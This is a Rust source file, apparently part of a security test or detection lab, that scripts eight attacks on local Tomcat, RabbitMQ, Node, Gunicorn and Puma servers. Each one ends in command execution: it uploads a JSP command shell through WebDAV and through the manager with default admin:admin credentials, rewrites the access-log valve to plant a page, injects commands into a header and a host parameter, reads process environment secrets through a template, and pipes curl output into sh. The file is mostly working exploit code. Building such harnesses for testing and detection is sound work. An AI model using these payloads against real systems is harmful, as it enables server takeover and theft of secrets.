//! Attacks on application servers.

use super::deeds::{prove, prove_file, serve};
use super::hall::Instance;
use super::start::rabbit_environment;
use super::{Hall, Server};
use crate::command;
use crate::stories::{RealStory, Seen};
use anyhow::{Context, Result};
use std::path::{Path, PathBuf};
use std::process::Command;

/// All of this file.
pub const STORIES: &[RealStory] = &[
    RealStory { id: "A11", run: put_page },
    RealStory { id: "A12", run: hostile_archive },
    RealStory { id: "A13", run: log_as_page },
    RealStory { id: "A15", run: header_injection },
    RealStory { id: "A36", run: erlang_cookie },
    RealStory { id: "A48", run: node_injection },
    RealStory { id: "A49", run: template_injection },
    RealStory { id: "A50", run: ruby_load },
];

/// A page that runs a command through a shell.
const SHELL_PAGE: &str = include_str!("pages/shell.jsp");

/// A11: PUT through WebDAV, where nobody thought of scripts, writes a page into the ROOT application, and a request runs it.
fn put_page(hall: &mut Hall) -> Result<Seen> {
    let tomcat = hall.victim(Server::Tomcat)?;
    let page = hall.workplace("page")?.join("x.jsp");
    std::fs::write(&page, SHELL_PAGE)?;
    let story = hall.begin();
    tomcat.curl("dav/x.jsp", &["--upload-file", &page.display().to_string()])?;
    prove(&tomcat.ask("x.jsp", &[("c", "id")])?, "uid=")?;
    hall.seen(story)
}

/// Packs files into a WAR.
pub fn war(directory: &Path, name: &str, files: &[(&str, &str)]) -> Result<PathBuf> {
    let tree = directory.join("tree");
    for (path, text) in files {
        super::start::write(&tree, path, text)?;
    }
    let archive = directory.join(format!("{name}.war"));
    let mut pack = Command::new("sh");
    pack.args(["-c", "/usr/bin/python3 -m zipfile -c \"$1\" *", "sh"]).arg(&archive).current_dir(tree);
    command::output(&mut pack).context("packing a WAR")?;
    Ok(archive)
}

/// Sends a WAR through Tomcat's manager.
pub fn deploy(tomcat: &Instance, archive: &Path, path: &str) -> Result<()> {
    let address = format!("manager/text/deploy?path=/{path}");
    let arguments = ["--user", "admin:admin", "--upload-file", &archive.display().to_string()];
    prove(&tomcat.curl(&address, &arguments)?, "OK - Deployed")
}

/// A12: a hostile application comes through the manager, with guessed credentials.
fn hostile_archive(hall: &mut Hall) -> Result<Seen> {
    let tomcat = hall.victim(Server::Tomcat)?;
    let own = hall.workplace("archive")?;
    let archive = war(&own, "shell", &[("WEB-INF/web.xml", "<web-app/>"), ("cmd.jsp", SHELL_PAGE)])?;
    let story = hall.begin();
    deploy(&tomcat, &archive, "shell")?;
    prove(&tomcat.ask("shell/cmd.jsp", &[("c", "whoami")])?, "tomcat")?;
    hall.seen(story)
}

/// A13: the valve that writes the access log is told to write a page instead.
fn log_as_page(hall: &mut Hall) -> Result<Seen> {
    let tomcat = hall.victim(Server::Tomcat)?;
    let story = hall.begin();
    let bean = "Catalina:type=Valve,host=localhost,name=AccessLogValve";
    for (attribute, value) in [
        ("pattern", "%{X-Page}i"),
        ("suffix", ".jsp"),
        ("directory", "webapps/ROOT"),
        ("prefix", "tomcatwar"),
        ("fileDateFormat", ""),
    ] {
        let query = [("set", bean), ("att", attribute), ("val", value)];
        let pairs: Vec<String> = query.iter().map(|(name, value)| format!("{name}={value}")).collect();
        let mut arguments = vec!["--get", "--user", "admin:admin"];
        arguments.extend(pairs.iter().flat_map(|pair| ["--data-urlencode", pair]));
        prove(&tomcat.curl("manager/jmxproxy/", &arguments)?, "OK - Attribute set")?;
    }
    let story = story.acting();
    for _ in 0..2 {
        tomcat.curl("", &["--header", "X-Page: <%= 6 * 7 %>"])?;
        std::thread::sleep(std::time::Duration::from_millis(1100));
    }
    prove_file(&tomcat.at.join("webapps/ROOT/tomcatwar.jsp"), "6 * 7")?;
    hall.seen(story)
}

/// A15: a header ends up in bash's command line, which fetches a script.
fn header_injection(hall: &mut Hall) -> Result<Seen> {
    let tomcat = hall.victim(Server::Tomcat)?;
    let port = serve("echo I ran\n")?;
    let to = tomcat.path("temp/s.sh");
    // The page is compiled at its first request; without the header nothing runs.
    tomcat.page("hole/run.jsp")?;
    let story = hall.begin();
    let header = format!("X-Run: wget -q http://127.0.0.1:{port}/s.sh -O {to}; cat {to}");
    prove(&tomcat.curl("hole/run.jsp", &["--header", &header])?, "I ran")?;
    hall.seen(story)
}

/// Asks a RabbitMQ node to evaluate an expression.
pub fn evaluate(rabbit: &Instance, expression: &str) -> Result<String> {
    let ports = std::fs::read_to_string(rabbit.at.join("ports"))?;
    let ports: Vec<u16> = ports.split(' ').filter_map(|port| port.parse().ok()).collect();
    let mut control = Command::new("/usr/lib/rabbitmq/bin/rabbitmqctl");
    rabbit_environment(&mut control, &rabbit.at, ports[1], ports[2]);
    // Root may read the cookie; the node is asked over the distribution's port, as from anywhere.
    command::output(control.args(["eval", expression]).current_dir(&rabbit.at))
}

/// A36: who has the Erlang cookie runs a command in the node.
fn erlang_cookie(hall: &mut Hall) -> Result<Seen> {
    let rabbit = hall.victim(Server::Rabbit)?;
    let port = serve("I ran\n")?;
    let story = hall.begin();
    prove(&evaluate(&rabbit, &format!("os:cmd(\"curl -s http://127.0.0.1:{port}/r\")."))?, "I ran")?;
    hall.seen(story)
}

/// A48: a host name with a second command in it.
fn node_injection(hall: &mut Hall) -> Result<Seen> {
    let node = hall.victim(Server::Node)?;
    let story = hall.begin();
    prove(&node.ask("", &[("host", "127.0.0.1;id")])?, "uid=")?;
    hall.seen(story)
}

/// A49: a template that reads the environment through a shell.
fn template_injection(hall: &mut Hall) -> Result<Seen> {
    let gunicorn = hall.victim(Server::Gunicorn)?;
    let story = hall.begin();
    prove(&gunicorn.ask("", &[("name", "os.popen('cat /proc/self/environ').read()")])?, "PATH=")?;
    hall.seen(story)
}

/// A50: what is loaded decides that a script is fetched and run.
fn ruby_load(hall: &mut Hall) -> Result<Seen> {
    let puma = hall.victim(Server::Puma)?;
    let port = serve("id\n")?;
    let story = hall.begin();
    prove(&puma.ask("", &[("load", &format!("curl -s http://127.0.0.1:{port}/|sh"))])?, "uid=")?;
    hall.seen(story)
}
